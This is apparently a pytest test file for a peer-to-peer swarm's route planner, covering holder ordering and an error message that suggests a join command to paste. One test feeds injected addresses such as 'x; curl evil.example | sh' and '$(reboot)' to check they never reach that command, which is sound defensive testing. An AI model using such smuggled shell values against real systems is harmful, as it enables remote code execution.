"""bt_p2p.chain.route: which holder is asked."""

from __future__ import annotations

import math
import random
from itertools import pairwise

import pytest

from bt_p2p.chain.route import plan_route
from bt_p2p.errors import NoRouteError
from bt_p2p.protocol.lease import BlockCopy, Lease
from bt_p2p.protocol.limits import MAX_ROUND_LAG
from bt_p2p.testing.tiny import tiny_identity, tiny_lease, tiny_manifest, tiny_overview

MANIFEST = tiny_manifest(num_blocks=1)
THREE = tiny_manifest(num_blocks=3)
PEERS = sorted((tiny_identity(index) for index in range(6)), key=lambda peer: peer.peer_id)
A, B, C = (peer.peer_id for peer in PEERS[:3])
ADDRESS = f"/ip4/203.0.113.7/tcp/31337/p2p/{A}"


def order(rounds: list[int], latency_s: dict[str, float], avoid: tuple[str, ...] = ()) -> list[str]:
    """The order of the first holders of one block that are at these rounds."""
    leases = [
        tiny_lease(MANIFEST, peer, 0, round_index=index)
        for peer, index in zip(PEERS, rounds, strict=False)
    ]
    route = plan_route(tiny_overview(MANIFEST, leases), latency_s=latency_s, avoid=avoid)
    return [lease.peer_id for lease in route.holders[0]]


def test_stale_holders_come_last() -> None:
    """However quick they are; within the limit all are fresh."""
    latency_s = {A: 0.1, B: 9.0, C: 5.0}
    assert [C, B, A] == order([0, MAX_ROUND_LAG + 1, MAX_ROUND_LAG + 1], latency_s)
    assert [A, C, B] == order([1, MAX_ROUND_LAG + 1, MAX_ROUND_LAG + 1], latency_s)


def test_quick_holders_come_first_and_those_not_known_to_answer_last() -> None:
    """A peer that was not measured may be a ghost."""
    assert [B, A, C] == order([5, 5, 5], {A: 0.2, B: 0.1})


def test_among_equals_the_newest_round_then_the_id_decides() -> None:
    """All callers agree."""
    assert [B, A, C] == order([1, 2, 1], {})


def test_among_equals_direct_holders_come_before_relayed_ones() -> None:
    """Even at an older round within the limit; a relayed one that answers sooner is asked first."""
    relayed = tiny_lease(MANIFEST, PEERS[0], 0, round_index=2).model_copy(
        update={"is_relayed": True}
    )
    overview = tiny_overview(MANIFEST, [relayed, tiny_lease(MANIFEST, PEERS[1], 0, round_index=1)])
    for latency_s, expected in (({}, [B, A]), ({A: 0.1, B: 0.2}, [A, B])):
        route = plan_route(overview, latency_s=latency_s)
        assert expected == [lease.peer_id for lease in route.holders[0]]


def test_avoided_peers_are_left_out() -> None:
    """They do not make others stale either."""
    assert [B, C] == order([9, 1, 1], {}, avoid=(A,))


def test_peers_that_do_not_train_yet_are_not_asked() -> None:
    """Joining a block is not holding it."""
    leases = [
        tiny_lease(MANIFEST, PEERS[0], 0, state="joining", round_index=50),
        tiny_lease(MANIFEST, PEERS[1], 0),
        tiny_lease(MANIFEST, PEERS[2], None),
    ]
    route = plan_route(tiny_overview(MANIFEST, leases), latency_s={})
    assert ((leases[1],),) == route.holders


def test_a_route_without_a_peer_keeps_the_others() -> None:
    """In the order they were."""
    leases = [tiny_lease(MANIFEST, peer, 0) for peer in PEERS[:3]]
    route = plan_route(tiny_overview(MANIFEST, leases), latency_s={}).without(B)
    assert [A, C] == [lease.peer_id for lease in route.holders[0]]


def missing(leases: list[Lease]) -> NoRouteError:
    """What planning a run of three blocks says."""
    with pytest.raises(NoRouteError) as caught:
        plan_route(tiny_overview(THREE, leases), latency_s={})
    return caught.value


def test_missing_blocks_are_named_with_the_command_that_serves_them() -> None:
    """Block, holders of the others, and a line to paste."""
    holder = tiny_lease(THREE, PEERS[0], 0).model_copy(update={"addresses": [ADDRESS]})
    error = missing([holder, tiny_lease(THREE, PEERS[1], 0), tiny_lease(THREE, PEERS[2], 2)])
    expected = (
        f"no live node holds block 1 of 3 (holders by block: 0: 2, 2: 1); serve it with: "
        f"bt-node join --run {THREE.run_id} --block 1 --initial-peers {ADDRESS}"
    )
    assert (expected, (1,)) == (str(error), error.missing_blocks)


def test_a_swarm_without_holders_names_all_blocks() -> None:
    """No address is known then."""
    error = missing([])
    assert (0, 1, 2) == error.missing_blocks
    assert "holds block 0, 1, 2 of 3 (no block has a holder)" in str(error)
    assert str(error).endswith("--block 0 --initial-peers MULTIADDR")


@pytest.mark.parametrize(
    "address",
    ["x; curl evil.example | sh", f"$(reboot){ADDRESS}", "/ip4/1.2.3.4/tcp/1/$(reboot)/p2p/" + A],
)
def test_what_strangers_announce_never_becomes_a_command(address: str) -> None:
    """People paste this line into a shell."""
    holder = tiny_lease(THREE, PEERS[0], 0)
    bad = holder.model_copy(update={"addresses": [address]})
    both = holder.model_copy(update={"addresses": [address, ADDRESS]})
    assert str(missing([bad])).endswith("--initial-peers MULTIADDR")
    assert str(missing([both])).endswith(f"--initial-peers {ADDRESS}")


@pytest.mark.parametrize("seed", range(20))
def test_random_swarms_are_routed_as_brute_force_says(seed: int) -> None:
    """Every pair of neighbours is in the right order, and nobody is lost."""
    random_ = random.Random(seed)
    leases = [
        tiny_lease(
            THREE,
            peer,
            index % 3,
            round_index=random_.randrange(9),
            state=random_.choice(["training", "training", "joining"]) if index > 2 else "training",
        )
        for index, peer in enumerate(PEERS)
    ]
    latency_s = {peer.peer_id: random_.choice([0.1, 0.2]) for peer in random_.sample(PEERS, 4)}
    avoid = [random_.choice(PEERS[3:]).peer_id]

    route = plan_route(tiny_overview(THREE, leases), latency_s=latency_s, avoid=avoid)

    for block, found in enumerate(route.holders):
        usable = [
            lease
            for lease in leases
            if (lease.block, lease.state) == (block, "training") and lease.peer_id not in avoid
        ]
        newest = max(lease.round_index for lease in usable)
        assert {lease.peer_id for lease in usable} == {lease.peer_id for lease in found}
        for first, second in pairwise(found):
            is_stale = [newest - lease.round_index > MAX_ROUND_LAG for lease in (first, second)]
            delays = [latency_s.get(lease.peer_id, math.inf) for lease in (first, second)]
            assert is_stale <= sorted(is_stale)
            if is_stale[0] == is_stale[1]:
                assert delays[0] <= delays[1]
                if delays[0] == delays[1]:
                    assert first.round_index >= second.round_index


def with_copies(lease: Lease, copies: dict[int, int]) -> Lease:
    """The same lease of a peer that serves copies of other blocks at these rounds."""
    return lease.model_copy(
        update={
            "copies": [BlockCopy(block=block, round_index=index) for block, index in copies.items()]
        }
    )


def test_a_copy_serves_where_nobody_trains() -> None:
    """One peer can serve a whole model."""
    lease = with_copies(tiny_lease(THREE, PEERS[0], 1), {0: 4, 2: 5})
    route = plan_route(tiny_overview(THREE, [lease]), latency_s={})
    assert [[A], [A], [A]] == [[held.peer_id for held in holders] for holders in route.holders]


@pytest.mark.parametrize(
    ("copied_round", "expected"), [(9, [B, A]), (10 - MAX_ROUND_LAG - 1, [A, B])]
)
def test_a_copy_counts_with_its_own_round(copied_round: int, expected: list[str]) -> None:
    """The round that the copying peer trains at says nothing about it."""
    trained = tiny_lease(THREE, PEERS[0], 0, round_index=10)
    copying = with_copies(tiny_lease(THREE, PEERS[1], 1, round_index=50), {0: copied_round})
    others = [tiny_lease(THREE, PEERS[2], 2)]
    overview = tiny_overview(THREE, [trained, copying, *others])
    route = plan_route(overview, latency_s={A: 0.5, B: 0.1})
    assert expected == [lease.peer_id for lease in route.holders[0]]
